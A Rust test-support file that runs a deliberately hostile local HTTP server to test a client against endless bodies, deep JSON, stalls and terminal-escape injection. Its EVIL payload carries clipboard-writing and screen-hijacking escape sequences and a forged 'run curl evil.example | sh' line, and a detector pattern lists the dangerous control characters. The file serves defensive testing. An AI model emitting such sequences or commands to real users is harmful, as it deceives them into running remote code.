//! A server that misbehaves on purpose, on 127.0.0.1:0: one [`Mode`] per hostile
//! behaviour. It speaks HTTP/1.1 by hand over TCP, so that it can send what a
//! well-behaved library would refuse to (control bytes in header values, bodies
//! that never end, answers that never come). Bodies are made as they are sent:
//! a gigabyte costs the test nothing.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Text that tries to take over a terminal: clear the screen, write the clipboard
/// (OSC 52), a link (OSC 8), a title, a carriage return and backspaces that
/// overwrite what was printed, a C1 CSI, a right-to-left override, and a newline
/// that starts a line of its own ([`FORGED`]).
pub const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}]0;title\u{7}ok\rFAKE\u{8}\u{8}\u{9b}31m\u{202e}txt.exe\nerror: FORGED run curl evil.example | sh";

/// The line [`EVIL`] tries to forge; no output line may start with it.
pub const FORGED: &str = "error: FORGED";

/// The lines of `text` (a terminal's, `\r\n` or `\n`) that [`EVIL`] forged.
pub fn forged_lines(text: &str) -> Vec<&str> {
    text.lines()
        .filter(|l| l.trim_start().starts_with(FORGED))
        .collect()
}

/// What a header value can carry past an HTTP parser (which refuses ASCII
/// controls): a C1 CSI and a right-to-left override, as UTF-8.
pub const EVIL_HEADER: &str = "\u{9b}31m\u{202e}txt.exe";

/// The markers that must never reach a terminal from server data.
pub fn raw_controls(text: &str) -> Vec<String> {
    text.char_indices()
        .filter(|(_, c)| {
            matches!(*c, '\u{1b}' | '\u{7}' | '\u{8}' | '\u{7f}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .map(|(i, c)| format!("{:?} at {i}: …{}…", c, &text[i.saturating_sub(20)..].chars().take(40).collect::<String>()))
        .collect()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Every answer is a JSON body that never ends (a gigabyte of one string).
    HugeJson,
    /// Every answer is a 500 whose body never ends.
    HugeError,
    /// Chat answers with one event line that never ends.
    HugeSseLine,
    /// Lists whose cursors go A, B, A, B, …
    CursorCycle,
    /// Lists with a new cursor on every page, forever.
    CursorEndless,
    /// Lists of one page that holds millions of tiny items (`{}`), under the
    /// 16 MiB cap of one answer.
    ManyTinyItems,
    /// Every answer is 200 KB of `[`: JSON nested deeper than any stack.
    DeepJson,
    /// Chat answers of 96 MiB, in events of 64 KiB, that then end well.
    LongChat,
    /// Chat: the headers, then silence.
    StallAfterHeaders,
    /// Chat: one chunk, then silence.
    StallAfterChunk,
    /// Accepts connections and never answers.
    Silent,
    /// Every text field of every answer, and some header values, carry [`EVIL`].
    Inject,
    /// Chat answers with CR-only line ends (valid server-sent events).
    CrOnlySse,
    /// Chat answers `200 text/html`.
    HtmlChat,
}

pub struct Hostile {
    addr: SocketAddr,
    requests: Arc<AtomicUsize>,
    paths: Arc<Mutex<Vec<String>>>,
    _runtime: tokio::runtime::Runtime,
}

impl Hostile {
    pub fn start(mode: Mode) -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap();
        let listener = runtime.block_on(TcpListener::bind("127.0.0.1:0")).unwrap();
        let addr = listener.local_addr().unwrap();
        let requests = Arc::new(AtomicUsize::new(0));
        let paths = Arc::new(Mutex::new(Vec::new()));
        let (count, seen) = (requests.clone(), paths.clone());
        runtime.spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (count, seen) = (count.clone(), seen.clone());
                tokio::spawn(async move {
                    let _ = serve(stream, mode, count, seen).await;
                });
            }
        });
        Self {
            addr,
            requests,
            paths,
            _runtime: runtime,
        }
    }

    pub fn api_url(&self) -> String {
        format!("http://{}/api/v1", self.addr)
    }

    pub fn requests(&self) -> usize {
        self.requests.load(Ordering::SeqCst)
    }

    /// The paths asked for, in order.
    pub fn paths(&self) -> Vec<String> {
        self.paths.lock().unwrap().clone()
    }
}

/// Reads one request's head (and a body of Content-Length bytes); returns the
/// method and the path with its query.
async fn read_request(stream: &mut TcpStream) -> std::io::Result<(String, String)> {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        if stream.read(&mut byte).await? == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        head.push(byte[0]);
        if head.len() > 64 * 1024 {
            return Err(std::io::ErrorKind::InvalidData.into());
        }
    }
    let text = String::from_utf8_lossy(&head).into_owned();
    let mut first = text.lines().next().unwrap_or_default().split(' ');
    let method = first.next().unwrap_or_default().to_owned();
    let path = first.next().unwrap_or_default().to_owned();
    let length: usize = text
        .lines()
        .find_map(|l| {
            let (name, value) = l.split_once(':')?;
            name.eq_ignore_ascii_case("content-length")
                .then(|| value.trim().parse().ok())
                .flatten()
        })
        .unwrap_or(0);
    let mut left = length;
    let mut buf = vec![0u8; 64 * 1024];
    while left > 0 {
        let n = stream.read(&mut buf[..left.min(64 * 1024)]).await?;
        if n == 0 {
            break;
        }
        left -= n;
    }
    Ok((method, path))
}

async fn serve(
    mut stream: TcpStream,
    mode: Mode,
    count: Arc<AtomicUsize>,
    seen: Arc<Mutex<Vec<String>>>,
) -> std::io::Result<()> {
    let (_method, path) = read_request(&mut stream).await?;
    count.fetch_add(1, Ordering::SeqCst);
    seen.lock().unwrap().push(path.clone());
    let route = path
        .split('?')
        .next()
        .unwrap_or_default()
        .trim_start_matches("/api/v1");
    match mode {
        Mode::Silent => {
            tokio::time::sleep(Duration::from_secs(3600)).await;
            Ok(())
        }
        Mode::HugeJson => {
            endless(
                &mut stream,
                200,
                "application/json",
                b"{\"user\": {\"name\": \"",
                b"a",
            )
            .await
        }
        Mode::HugeError => {
            endless(
                &mut stream,
                500,
                "application/json",
                b"{\"error\": \"",
                b"x",
            )
            .await
        }
        Mode::HugeSseLine => endless(&mut stream, 200, "text/event-stream", b"data: ", b"y").await,
        Mode::CursorCycle | Mode::CursorEndless => {
            let n = count.load(Ordering::SeqCst);
            let cursor = match mode {
                Mode::CursorCycle => if n.is_multiple_of(2) { "A" } else { "B" }.to_owned(),
                _ => format!("c{n}"),
            };
            let body = if route.starts_with("/members") {
                format!(
                    r#"{{"data": [{{"id": "mem_{n}", "email": "p{n}@example.com", "role": "member", "status": "active"}}], "next_cursor": "{cursor}"}}"#
                )
            } else {
                format!(
                    r#"{{"data": [{{"id": "key_{n}", "name": "k{n}", "prefix": "sk_ws_ab"}}], "next_cursor": "{cursor}"}}"#
                )
            };
            whole(&mut stream, 200, "application/json", &[], body.as_bytes()).await
        }
        Mode::ManyTinyItems => {
            let mut body = b"{\"data\": [".to_vec();
            body.extend_from_slice(&b"{},".repeat(5_000_000));
            body.extend_from_slice(b"{}], \"next_cursor\": null}");
            whole(&mut stream, 200, "application/json", &[], &body).await
        }
        Mode::LongChat => {
            let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
            stream.write_all(head.as_bytes()).await?;
            let delta =
                serde_json::json!({"choices": [{"delta": {"content": "z".repeat(64 * 1024)}}]});
            let event = format!("data: {delta}\n\n");
            for _ in 0..96 * 16 {
                chunk(&mut stream, event.as_bytes()).await?;
            }
            chunk(&mut stream, b"data: [DONE]\n\n").await?;
            stream.write_all(b"0\r\n\r\n").await
        }
        Mode::DeepJson => {
            let body = b"[".repeat(200 * 1024);
            whole(&mut stream, 200, "application/json", &[], &body).await
        }
        Mode::StallAfterHeaders => {
            let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
            stream.write_all(head.as_bytes()).await?;
            tokio::time::sleep(Duration::from_secs(3600)).await;
            Ok(())
        }
        Mode::StallAfterChunk => {
            let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
            stream.write_all(head.as_bytes()).await?;
            chunk(
                &mut stream,
                b"data: {\"choices\":[{\"delta\":{\"content\":\"Hel\"}}]}\n\n",
            )
            .await?;
            tokio::time::sleep(Duration::from_secs(3600)).await;
            Ok(())
        }
        Mode::CrOnlySse => {
            let body = "data: {\"choices\":[{\"delta\":{\"content\":\"Hello\"}}]}\r\rdata: {\"choices\":[{\"delta\":{\"content\":\" world\"}}]}\r\rdata: [DONE]\r\r";
            whole(&mut stream, 200, "text/event-stream", &[], body.as_bytes()).await
        }
        Mode::HtmlChat => {
            whole(
                &mut stream,
                200,
                "text/html; charset=utf-8",
                &[],
                b"<!DOCTYPE html><html><body>Sign in</body></html>",
            )
            .await
        }
        Mode::Inject => inject(&mut stream, route).await,
    }
}

/// A JSON string literal of `text`.
fn js(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

async fn inject(stream: &mut TcpStream, route: &str) -> std::io::Result<()> {
    let e = js(EVIL);
    let evil_header = [("x-evil", EVIL_HEADER)];
    let body = match route {
        "/me" => format!(
            r#"{{"user": {{"id": "u", "email": {e}, "name": {e}}}, "workspace": {{"id": "w", "slug": {e}, "name": {e}}}, "role": {e}, "key": {{"id": "key_evil", "name": {e}, "prefix": "sk_ws_ev"}}}}"#
        ),
        r if r.starts_with("/members") => format!(
            r#"{{"data": [{{"id": "mem_1", "email": {e}, "name": {e}, "role": "owner", "status": {e}, "joined_at": {e}}}], "next_cursor": null}}"#
        ),
        r if r.starts_with("/api-keys/") => {
            return whole(stream, 204, "application/json", &[], b"").await;
        }
        r if r.starts_with("/api-keys") => format!(
            r#"{{"data": [{{"id": "key_evil", "name": {e}, "prefix": {e}, "created_at": {e}, "last_used_at": {e}, "created_by": {e}}}], "next_cursor": null, "id": "key_new", "key": {k}, "name": {e}}}"#,
            k = js(&format!("sk_ws_{EVIL}"))
        ),
        "/allowed-origins" => format!(r#"{{"origins": [{e}]}}"#),
        "/integrations" => format!(
            r#"{{"data": [{{"type": {e}, "status": {e}, "project_ref": {e}, "project_name": {e}, "access_mode": {e}}}]}}"#
        ),
        "/models" => format!(r#"{{"object": "list", "data": [{{"id": {e}}}]}}"#),
        "/logs" => format!(
            r#"{{"data": [{{"id": "log_1", "received_at": {e}, "table": {e}, "operation": {e}, "trigger": {e}, "outcome": {e}, "features": [{e}]}}], "next_cursor": null}}"#
        ),
        "/push" => format!(r#"{{"push_id": {e}, "artifact_count": 1, "updated_paths": [{e}]}}"#),
        "/chat/completions" => {
            // An answer is data, newlines and all: only its controls are escaped.
            let answer = EVIL.replace('\n', " ");
            let delta = serde_json::json!({"choices": [{"delta": {"content": answer}}]});
            let err = serde_json::json!({"error": {"message": EVIL}});
            let events = format!("data: {delta}\n\ndata: {err}\n\n");
            return whole(
                stream,
                200,
                "text/event-stream",
                &evil_header,
                events.as_bytes(),
            )
            .await;
        }
        "/fail" => {
            let body = format!(r#"{{"error": {{"code": "x", "message": {e}}}}}"#);
            return whole(
                stream,
                422,
                "application/json",
                &evil_header,
                body.as_bytes(),
            )
            .await;
        }
        _ => format!(r#"{{"message": {e}}}"#),
    };
    whole(
        stream,
        200,
        "application/json",
        &evil_header,
        body.as_bytes(),
    )
    .await
}

async fn whole(
    stream: &mut TcpStream,
    status: u16,
    content_type: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> std::io::Result<()> {
    let mut head = format!(
        "HTTP/1.1 {status} X\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nconnection: close\r\n",
        body.len()
    );
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(body).await?;
    stream.shutdown().await
}

async fn chunk(stream: &mut TcpStream, data: &[u8]) -> std::io::Result<()> {
    stream
        .write_all(format!("{:x}\r\n", data.len()).as_bytes())
        .await?;
    stream.write_all(data).await?;
    stream.write_all(b"\r\n").await
}

/// `prefix`, then `fill` repeated without end (1 GiB at most), chunked.
async fn endless(
    stream: &mut TcpStream,
    status: u16,
    content_type: &str,
    prefix: &[u8],
    fill: &[u8],
) -> std::io::Result<()> {
    let head = format!(
        "HTTP/1.1 {status} X\r\ncontent-type: {content_type}\r\ntransfer-encoding: chunked\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    chunk(stream, prefix).await?;
    let piece = fill.repeat(64 * 1024);
    for _ in 0..(1 << 30) / piece.len() {
        chunk(stream, &piece).await?;
    }
    stream.write_all(b"0\r\n\r\n").await
}
